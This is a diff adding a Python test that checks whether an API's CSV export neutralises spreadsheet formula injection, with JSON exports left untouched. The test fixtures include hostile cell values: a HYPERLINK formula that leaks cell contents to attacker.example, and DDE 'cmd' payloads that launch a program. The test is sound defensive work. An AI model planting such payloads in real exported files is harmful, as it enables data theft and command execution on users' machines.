@@ -96,3 +96,39 @@ async def test_attainment_and_kpi_exports(api: httpx.AsyncClient) -> None:
     rates = await api.get("/exports/rates.csv", params={"since": "2026-01", "until": "2026-02"})
     assert rates.text.splitlines()[0] == "outcome,org_unit,period,headcount,attained,new,rate"
     assert (await api.get("/exports/attainments.xlsx")).status_code == 404
+
+
+FORMULAS = {
+    "actor": '=HYPERLINK("http://attacker.example/?leak="&A1,"open me")',
+    "activity": "+cmd|' /C calc'!A0",
+    "verb": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+async def test_csv_cells_that_start_a_formula_are_neutralised(api: httpx.AsyncClient) -> None:
+    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading `'`, so a
+    spreadsheet shows it instead of running it; numbers (a score of -0.5) stay numbers."""
+    built = passed("mal", "m1", scaled=-0.5)
+    built["actor"]["name"] = FORMULAS["actor"]
+    built["object"]["definition"] = {"name": {"en-US": FORMULAS["activity"]}}
+    built["verb"]["display"] = {"en-US": FORMULAS["verb"]}
+    built["result"]["response"] = "-2+3"
+    built["context"] = {"platform": FORMULAS["tab"], "language": "en"}
+    second = passed("cr", "m2", result={"response": FORMULAS["cr"]})
+    await post_statements(api, built, second)
+    response = await api.get("/exports/statements.csv", params={"ascending": "true"})
+    assert response.status_code == 200
+    first, other = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert first["actor_name"] == "'" + FORMULAS["actor"]
+    assert first["object_name"] == "'" + FORMULAS["activity"]
+    assert first["verb_display"] == "'" + FORMULAS["verb"]
+    assert first["result_response"] == "'-2+3"
+    assert first["platform"] == "'" + FORMULAS["tab"]
+    assert other["result_response"] == "'" + FORMULAS["cr"]
+    assert first["result_score_scaled"] == "-0.5"  # a number, not text: left alone
+    assert first["actor_id"] == "mailto:mal@example.org"  # ordinary text is untouched
+    ndjson = await api.get("/exports/statements.ndjson", params={"ascending": "true"})
+    line = orjson.loads(ndjson.content.splitlines()[0])
+    assert line["actor_name"] == FORMULAS["actor"]  # JSON is data, not a spreadsheet
